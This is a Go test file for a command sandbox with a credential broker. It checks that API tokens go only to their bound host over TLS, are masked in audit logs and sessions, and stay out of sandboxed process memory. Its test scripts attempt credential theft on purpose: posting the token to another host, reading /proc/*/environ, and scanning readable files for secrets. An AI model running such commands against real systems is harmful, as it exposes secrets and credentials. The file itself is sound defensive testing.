package local

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

const (
	secret = "s3cr3t-of-the-test-0123456789"
	bound  = "api=env:REAL_TOKEN,host=api.example,env=API_TOKEN"
)

// authorised is the answer of the test's internet to a request with this credential.
func authorised(by string) string { return fmt.Sprintf("%x", sha256.Sum256([]byte(by))) }

// The secret goes to the host that it is bound to, by TLS, and nowhere else; nothing inside,
// nothing that is printed and no record holds it.
func TestCredential(t *testing.T) {
	online(t, func(p *person) {
		p.env = append(p.env, "REAL_TOKEN="+secret)
		p.write("secret", secret+"\n")
		p.must(os.Chmod(p.path("secret"), 0o600))
		for _, source := range []string{"env:REAL_TOKEN", "file:" + p.path("secret")} {
			r := p.sh(`exec 2>&1
echo "token $API_TOKEN"
echo bare $(curl -sS https://api.example/hash)
echo placeholder $(curl -sS -H "Authorization: Bearer $API_TOKEN" https://api.example/hash)
echo echo $(curl -sS -D - https://api.example/echo)
echo other $(curl -sSk https://other.example/hash)
echo plain $(curl -sS http://api.example/hash)
echo misuse $(curl -sS -H "Authorization: Bearer $API_TOKEN" http://api.example/)
echo elsewhere $(curl -sS -H "X-Key: $API_TOKEN" http://other.example/)
echo query $(curl -sS "https://api.example/?key=$API_TOKEN")
echo body $(curl -sS -d "$API_TOKEN" "https://api.example/")
echo others $(curl -sS -d "$API_TOKEN" "http://other.example/")
cat /proc/[0-9]*/environ | tr '\0' '\n'
find / -xdev -readable -type f -size -100k -newermt -1hour -exec cat {} + 2>/dev/null
true`,
				"--json", "--allow", "api.example", "--allow", "other.example", "--open", opened, "--env", "REAL*", "--cred", strings.Replace(bound, "env:REAL_TOKEN", source, 1))
			for _, want := range []string{
				"body POST api.example /\n", "bare " + authorised("Bearer "+secret) + "\n", "placeholder " + authorised("Bearer "+secret) + "\n",
				"other " + authorised("") + "\n", "plain " + authorised("") + "\n",
				"<Bearer " + strings.Repeat("*", len(secret)) + ">\n",
			} {
				if !strings.Contains(r.stdout, want) {
					t.Errorf("no %q in %v", want, r)
				}
			}
			for line := range strings.Lines(r.stdout) {
				what, answer, _ := strings.Cut(line, " ")
				switch what {
				case "token":
					if len(answer) < 30 {
						t.Errorf("placeholder %q", answer)
					}
				case "misuse", "elsewhere", "query", "others":
					if !strings.Contains(answer, `"reason":"credential_misuse"`) {
						t.Errorf("%s: %q", what, answer)
					}
				}
			}
			record := p.read(".local/state/berm/audit/log.jsonl")
			for _, kind := range []string{"credential.use", "credential.misuse", "credential.echo"} {
				if !strings.Contains(record, `"`+kind+`"`) {
					t.Errorf("no %s in the record", kind)
				}
			}
			if strings.Contains(r.stdout+r.stderr+record, secret) {
				t.Errorf("it is told: %v", r)
			}
		}
	})
}

// What is inside all the same, because it was given there, is in no record and no message.
func TestCredentialInRecords(t *testing.T) {
	online(t, func(p *person) {
		p.env = append(p.env, "REAL_TOKEN="+secret)
		r := p.sh("curl -sSk https://api.example/"+secret+"; curl -sS http://other.example/path/"+secret+"; curl -s http://"+secret+".other.example/; true",
			"--json", "--allow", "api.example", "--allow", "other.example", "--open", opened, "--cred", bound)
		r.says("the command's arguments hold the secret of the credential api")
		record := p.read(".local/state/berm/audit/log.jsonl")
		masked := strings.Repeat("*", len(secret))
		for _, want := range []string{"curl -sSk https://api.example/" + masked + ";", `"path":"/` + masked, `"path":"/path/` + masked, masked + ".other.example"} {
			if !strings.Contains(record, want) {
				t.Errorf("no %q in %s", want, record)
			}
		}
		if strings.Contains(record, secret) || strings.Contains(r.stderr, secret) {
			t.Errorf("it is told: %v\n%s", r, record)
		}
	})
}

// What happened is in the log when it has happened: a run that is killed is recorded up to then,
// with its beginning, and without the secret.
func TestKilledRunIsRecorded(t *testing.T) {
	online(t, func(p *person) {
		p.env = append(p.env, "REAL_TOKEN="+secret)
		for _, flags := range [][]string{nil, {"--cred", bound}} {
			const log = ".local/state/berm/audit/log.jsonl"
			_ = os.Remove(p.path(log))
			args := slices.Concat([]string{"run", "--rw", ".", "--allow", "api.example", "--open", opened}, flags, []string{"--", "sh", "-c",
				"echo begun >begun; curl -sSk https://api.example/hash; curl -sS http://other.example/" + secret + "; echo; sleep 60"})
			cmd := p.command(args...)
			out, err := cmd.StdoutPipe()
			p.must(err)
			p.must(cmd.Start())
			if line, err := bufio.NewReader(out).ReadString('\n'); err != nil {
				t.Errorf("%q, %v", line, err)
			}
			wants := []string{`"sandbox.create"`, `"reason":"not_listed"`}
			if flags != nil {
				wants = append(wants, `"credential.use"`)
			}
			missing := func() string {
				record, _ := os.ReadFile(p.path(log))
				for _, want := range wants {
					if !strings.Contains(string(record), want) {
						return want
					}
				}
				return ""
			}
			for end := time.Now().Add(20 * time.Second); missing() != "" && time.Now().Before(end); {
				time.Sleep(50 * time.Millisecond)
			}
			if lacks := missing(); lacks != "" {
				t.Errorf("%q: no %s while it runs", flags, lacks)
			}
			record := p.read(log)
			begun, err := os.Stat(p.path("project/begun"))
			p.must(err)
			var first struct{ Time time.Time }
			line, _, _ := strings.Cut(record, "\n")
			p.must(json.Unmarshal([]byte(line), &first))
			if first.Time.After(begun.ModTime().Add(50 * time.Millisecond)) { // a file's time may be coarse
				t.Errorf("recorded at %v, and it began at %v", first.Time, begun.ModTime())
			}
			if flags != nil && strings.Contains(record, secret) {
				t.Errorf("it is told: %s", record)
			}
			for _, process := range below(cmd.Process.Pid) {
				if strings.Contains(process.cmdline, "\x00run\x00") {
					_ = syscall.Kill(process.pid, syscall.SIGKILL)
				}
			}
			_ = cmd.Process.Kill()
			_ = cmd.Wait()
			if record := p.read(log); !strings.Contains(record, `"sandbox.create"`) || strings.Contains(record, `"sandbox.exit"`) {
				t.Errorf("after its end: %s", record)
			}
		}
	})
}

// Secrets in a command's arguments are not kept with its session.
func TestSecretInSession(t *testing.T) {
	online(t, func(p *person) {
		p.env = append(p.env, "REAL_TOKEN="+secret)
		const token = "ghp_0123456789abcdefghijklmnopqrstuvwxyz"
		p.sh("echo "+secret+" "+token+" >new", "--allow", "api.example", "--open", opened, "--checkpoint", "--cred", bound).exits(0)
		p.sh("echo "+token+" >newer", "-s", "project-1", "--checkpoint").exits(0)
		listed := p.berm("sessions").stdout + p.berm("sessions", "--json").stdout + p.read(".local/state/berm/sessions/project-1/session.json")
		for _, want := range []string{"echo " + strings.Repeat("*", len(secret)) + " ghp_[masked] ", "echo ghp_[masked] "} {
			if !strings.Contains(listed, want) {
				t.Errorf("no %q in %s", want, listed)
			}
		}
		_ = filepath.WalkDir(p.path(".local/state/berm"), func(path string, d os.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() && !strings.Contains(path, "/upper/") && !strings.Contains(path, "/base") {
				if content, _ := os.ReadFile(path); !strings.Contains(path, "/checkpoints/") && (bytes.Contains(content, []byte(secret)) || bytes.Contains(content, []byte(token))) {
					t.Errorf("it is in %s", path)
				}
			}
			return nil
		})
	})
}

// In mode swap a request gets the secret where the placeholder was sent, and nothing
// otherwise. An endpoint takes plain HTTP inside, and TLS leads on.
func TestCredentialSwapAndEndpoint(t *testing.T) {
	online(t, func(p *person) {
		p.env = append(p.env, "REAL_TOKEN="+secret)
		r := p.sh(`exec 2>&1
echo bare $(curl -sS https://api.example/hash)
echo other $(curl -sS -H "Authorization: Bearer mine" https://api.example/hash)
echo swapped $(curl -sS -H "Authorization: Bearer $API_TOKEN" https://api.example/hash)
echo url $API_URL
echo endpoint $(curl -sS -H "Authorization: Bearer $API_TOKEN" $API_URL/hash)
echo echo $(curl -sS -H "Authorization: Bearer $API_TOKEN" $API_URL/echo)
echo redirect $(curl -sSL $API_URL/redirect)
echo path $(curl -sS -H "Authorization: Bearer $API_TOKEN" "$API_URL/?key=$API_TOKEN")
echo host $(curl -sS -H "Host: api.example" $API_URL/hash)
curl -sSm5 https://api.broker.internal || echo tls refused
curl -sSm5 $API_URL:8080 || echo port refused
true`, "--allow", "api.example", "--open", opened, "--cred", bound+",swap,endpoint=API_URL")
		for _, want := range []string{
			"bare " + authorised("") + "\n", "other " + authorised("Bearer mine") + "\n", "swapped " + authorised("Bearer "+secret) + "\n",
			"url http://api.broker.internal\n", "endpoint " + authorised("Bearer "+secret) + "\n", "<Bearer " + strings.Repeat("*", len(secret)) + ">\n",
			"redirect GET api.example /next\n", "tls refused\n", "port refused\n",
		} {
			if !strings.Contains(r.stdout, want) {
				t.Errorf("no %q in %v", want, r)
			}
		}
		for line := range strings.Lines(r.stdout) {
			what, answer, _ := strings.Cut(line, " ")
			if reason := map[string]string{"path": "credential_misuse", "host": "authority_mismatch"}[what]; !strings.Contains(answer, reason) {
				t.Errorf("%s: %q", what, answer)
			}
		}
		if strings.Contains(r.stdout+r.stderr, secret) {
			t.Errorf("it is told: %v", r)
		}
	})
}

// A preset brings credentials, of which a project can take some away; what they are can be
// looked at without running anything, and holds no secret.
func TestPresetCredentials(t *testing.T) {
	online(t, func(p *person) {
		p.env = append(p.env, "REAL_TOKEN="+secret)
		p.mkdir(".config")
		p.mkdir(".config/berm")
		p.write(".config/berm/config.yaml", `version: 1
presets:
  mine:
    allow: [api.example]
    cred: ["`+bound+`"]
    keyless: {cred: ["first=env:NONE,host=api.example,env=FIRST,swap", "second=env:REAL_TOKEN,host=api.example,env=SECOND,swap"]}
`)
		p.sh(`test "$(curl -sS https://api.example/hash)" = `+authorised("Bearer "+secret), "--preset", "mine", "--open", opened).exits(0)
		// Both are for the field: which is meant is seen from what is sent.
		p.sh(`test "$FIRST" = "" && test "$(curl -sS -H "Authorization: Bearer $SECOND" https://api.example/hash)" = `+authorised("Bearer "+secret),
			"--preset", "mine", "--keyless", "--cred=-api", "--open", opened).exits(0)
		for _, flag := range []string{"--json", "-q"} {
			r := p.berm("run", "--print-policy", flag, "--preset", "mine", "--keyless", "--", "true")
			for _, want := range []string{"api (env:REAL_TOKEN, for api.example, placeholder in API_TOKEN)", "second (env:REAL_TOKEN"} {
				if !strings.Contains(r.stdout, want) {
					t.Errorf("no %q in %v", want, r)
				}
			}
			if strings.Contains(r.stdout+r.stderr, secret) {
				t.Errorf("it is told: %v", r)
			}
		}
		p.write("project/berm.yaml", "version: 1\ncred: [-api, extra]\n")
		p.sh(`test "$(curl -sSk https://api.example/hash)" = `+authorised(""), "--preset", "mine", "--open", opened).exits(0).
			says("berm.yaml asks for the credential extra, which it cannot give itself: add --cred extra=SOURCE")
		p.write("project/berm.yaml", "version: 1\ncred: [mine=env:REAL_TOKEN]\n")
		r := p.sh("true", "--preset", "mine", "--open", opened)
		if r.code != 125 || !strings.Contains(r.stderr, "berm.yaml:2: ") || !strings.Contains(r.stderr, "a project names no secret") {
			t.Error(r)
		}
	})
}

// --env is obeyed, and what it does is told.
func TestCredentialByEnv(t *testing.T) {
	online(t, func(p *person) {
		p.env = append(p.env, "REAL_TOKEN="+secret)
		flags := []string{"--allow", "api.example", "--open", opened, "--cred", bound, "--env", "REAL_TOKEN"}
		p.sh(`test "$REAL_TOKEN" = `+secret, flags...).exits(0).says("--env gives the command the secret of the credential api in REAL_TOKEN")
	})
}

// What a credential cannot be is told before anything runs, without what was given.
func TestWrongCredentials(t *testing.T) {
	online(t, func(p *person) {
		p.env = append(p.env, "REAL_TOKEN="+secret)
		for name, c := range map[string]struct {
			flags []string
			says  string
		}{
			"no network":            {[]string{"--cred", bound}, "a credential allows no host: add --allow"},
			"no network, no secret": {[]string{"--cred", "github=env:NOTHING"}, "the variable NOTHING is not set"},
			"no network, a service": {[]string{"--cred", "github=env:REAL_TOKEN"}, "add --allow github\n"},
			"other host":            {[]string{"--cred", bound, "--allow", "other.example"}, "a credential allows no host: add --allow api.example"},
			"other github":          {[]string{"--cred", "github=env:REAL_TOKEN", "--allow", "other.example"}, "api.github.com and github.com, which nothing lets"},
			"no service":            {[]string{"--cred", "acme=env:REAL_TOKEN", "--allow", "other.example"}, "there is no service"},
			"no variable":           {[]string{"--cred", "github=env:NOTHING", "--allow", "github"}, "the variable NOTHING is not set"},
			"no file":               {[]string{"--cred", "github=file:/nonexistent", "--allow", "github"}, "no such file"},
			"unknown policy":        {[]string{"--cred", bound, "--policy", "net.yaml"}, `the policy wants the credential "nobody", which nobody gave`},
			"none at all":           {[]string{"--policy", "net.yaml"}, "--cred nobody=SOURCE gives it"},
		} {
			p.write("project/net.yaml", "version: 1\nrules:\n  - {id: a, to: [api.example], credential: nobody}\n")
			r := p.sh("true", c.flags...)
			if r.code != 125 || !strings.Contains(r.stderr, c.says) || strings.Contains(r.stderr, secret) {
				t.Errorf("%s: %v", name, r)
			}
		}
		p.sh("true", "--allow", "github", "--cred", "github=secret:token").exits(2).says("secret: is one that a server has stored; berm run has env:VARIABLE")
		p.sh("true", "--preset", "claude-code", "--keyless").exits(125).says("--keyless has no key for the requests of the preset claude-code: env:ANTHROPIC_API_KEY", " is not set", "--cred NAME=file:PATH")
		for _, spec := range []string{secret, "github=" + secret, "github=env:", "a=env:B,header=X,user=y", "a=env:B,hots=x", "a=env:B,host", "a=env:B,prefix=x"} {
			r := p.sh("true", "--allow", "github", "--cred", spec)
			if r.code != 2 || strings.Contains(r.stderr, secret) {
				t.Errorf("%s: %v", spec, r)
			}
		}
	})
}

// Git writes what its credential lets it, without knowing it, also where a URL says SSH.
func TestGitCredential(t *testing.T) {
	online(t, func(p *person) {
		p.env = append(p.env, "REAL_TOKEN="+secret)
		r := p.sh(`exec 2>&1
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@example GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@example
cd /tmp && git clone -q git@git.example:o/r.git && cd r && head -c 2000000 /dev/urandom >f && git add f && git commit -qm one &&
git push -q origin HEAD:refs/heads/agent/x && echo pushed
git push -q origin HEAD:refs/heads/main || echo refused
git push -q origin HEAD:refs/heads/agent/two HEAD:refs/heads/main || echo both refused
git push -q origin :refs/heads/agent/x || echo deletion refused
git push -q ssh://git@git.example/o/other.git HEAD:refs/heads/agent/x || echo repository refused
git ls-remote ssh://git.example/o/r.git | grep -c refs/heads/agent/x
git ls-remote origin | grep -E 'two|main' || echo clean
cd /tmp && git clone -q -b agent/x https://git.example/o/r.git again && cmp r/f again/f && echo same
git ls-remote https://git.example/o/other.git || echo unknown`,
			"--allow", "git.example", "--open", opened, "--cred", "git=env:REAL_TOKEN,host=git.example,repo=o/r,push=refs/heads/agent/*")
		words := strings.Fields(r.stdout)
		for _, want := range []string{"pushed", "refused", "both", "deletion", "repository", "1", "clean", "same", "unknown"} {
			if !slices.Contains(words, want) {
				t.Errorf("no %q in %v", want, r)
			}
		}
		// Git itself says why, and what it may do instead.
		for _, want := range []string{
			`remote: the credential git does not let "refs/heads/main" be written`, "remote: push to one of refs/heads/agent/*", "does not let refs be deleted",
			`remote: the credential git is not for pushing to "o/other"`, "remote: push to one of o/r",
			`remote: the credential git is not for "o/other", and without one git.example answers with status 403`, "remote: it is for o/r;",
		} {
			if !strings.Contains(r.stdout, want) {
				t.Errorf("no %q in %v", want, r)
			}
		}
		if !strings.Contains(r.stderr, "denied: git.example:443 (git_ref)") || strings.Contains(r.stdout+r.stderr, secret) {
			t.Errorf("%v", r)
		}
	})
}

// process is one that a test started.
type process struct {
	pid     int
	cmdline string
}

// below lists the processes that descend from one.
func below(ancestor int) []process {
	parents := map[int]int{}
	stats, _ := filepath.Glob("/proc/[0-9]*/stat")
	for _, path := range stats {
		stat, _ := os.ReadFile(path)
		var pid, parent int
		_, rest, _ := strings.Cut(string(stat), ") ")
		_, _ = fmt.Sscan(string(stat), &pid)
		if _, err := fmt.Sscanf(rest, "%1s %d", new(string), &parent); err == nil {
			parents[pid] = parent
		}
	}
	var found []process
	for pid := range parents {
		for at := parents[pid]; at > 1; at = parents[at] {
			if at == ancestor {
				cmdline, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
				found = append(found, process{pid, string(cmdline)})
				break
			}
		}
	}
	return found
}

// holds says whether the memory of a process has a text.
func holds(t *testing.T, pid int, text string) bool {
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil || len(maps) == 0 { // it has ended meanwhile
		return false
	}
	memory, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return false
	}
	defer memory.Close()
	read := 0
	for line := range strings.Lines(string(maps)) {
		var from, to uint64
		var rights string
		if _, err := fmt.Sscanf(line, "%x-%x %s", &from, &to, &rights); err != nil || rights[0] != 'r' || rights[1] != 'w' {
			continue
		}
		const piece = 1 << 20
		for at := from; at < to; at += piece {
			buf := make([]byte, min(piece+64, to-at)) // past the end, for what lies across
			n, _ := memory.ReadAt(buf, int64(at))
			if read += n; bytes.Contains(buf[:n], []byte(text)) {
				return true
			}
		}
	}
	if read == 0 && syscall.Kill(pid, 0) == nil {
		t.Errorf("nothing of process %d can be read", pid)
	}
	return false
}

// One process alone holds the secret, beside the one that was given it.
func TestCredentialInMemory(t *testing.T) {
	online(t, func(p *person) {
		p.env = append(p.env, "REAL_TOKEN="+secret)
		cmd := p.command("run", "--rw", ".", "--allow", "api.example", "--open", opened, "--cred", bound, "--", "sh", "-c",
			"curl -sS https://api.example/hash https://api.example/echo; echo; until test -e go; do sleep 0.1; done")
		out, err := cmd.StdoutPipe()
		p.must(err)
		p.must(cmd.Start())
		defer func() {
			p.write("project/go", "")
			_ = cmd.Wait()
		}()
		if line, err := bufio.NewReader(out).ReadString('\n'); err != nil || !strings.HasPrefix(line, authorised("Bearer "+secret)) {
			p.Fatalf("%q, %v", line, err)
		}
		seen := map[string]int{}
		for _, process := range below(cmd.Process.Pid) {
			name := "inside"
			for _, ours := range []string{"internet", "egressd", "brokerd", "--cred"} {
				if strings.Contains(process.cmdline, "\x00"+ours+"\x00") {
					name = ours
				}
			}
			if name == "internet" || name == "--cred" { // the other side, and berm run itself
				continue
			}
			seen[name]++
			if holds(p.T, process.pid, secret) != (name == "brokerd") {
				t.Errorf("%s, %q: the secret is in the wrong place", name, process.cmdline)
			}
			status, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", process.pid))
			if name != "inside" && !strings.Contains(string(status), "NoNewPrivs:\t1\n") {
				t.Errorf("%s can gain rights", name)
			}
		}
		if seen["egressd"] != 1 || seen["brokerd"] != 1 || seen["inside"] < 2 {
			t.Errorf("processes: %v", seen)
		}
	})
}

// When the process with the credentials is gone, what needs it is refused, and told.
func TestBrokerDies(t *testing.T) {
	online(t, func(p *person) {
		p.env = append(p.env, "REAL_TOKEN="+secret)
		cmd := p.command("run", "--rw", ".", "--allow", "api.example", "--allow", "other.example", "--open", opened, "--cred", bound, "--", "sh", "-c",
			"curl -sS https://api.example/hash; echo; until test -e go; do sleep 0.1; done; curl -sS https://api.example/hash; curl -sSk https://other.example/hash")
		out, err := cmd.StdoutPipe()
		p.must(err)
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		p.must(cmd.Start())
		defer func() { _ = cmd.Process.Kill(); _ = cmd.Wait() }()
		lines := bufio.NewReader(out)
		if line, err := lines.ReadString('\n'); err != nil || line != authorised("Bearer "+secret)+"\n" {
			p.Fatalf("%q, %v", line, err)
		}
		for _, process := range below(cmd.Process.Pid) {
			if strings.Contains(process.cmdline, "\x00brokerd\x00") {
				p.must(syscall.Kill(process.pid, syscall.SIGKILL))
			}
		}
		time.Sleep(200 * time.Millisecond)
		p.write("project/go", "")
		rest := make([]byte, 1024)
		n, _ := lines.Read(rest)
		_ = cmd.Wait()
		if string(rest[:n]) != authorised("") { // the host that needs no credential
			t.Errorf("%q", rest[:n])
		}
		for _, want := range []string{"the service of credentials ended", "denied: api.example:443 (credential)"} {
			if !strings.Contains(stderr.String(), want) {
				t.Errorf("no %q in %s", want, stderr.String())
			}
		}
		if record := p.read(".local/state/berm/audit/log.jsonl"); !strings.Contains(record, `"reason":"credential"`) {
			t.Error("it is not in the record")
		}
	})
}
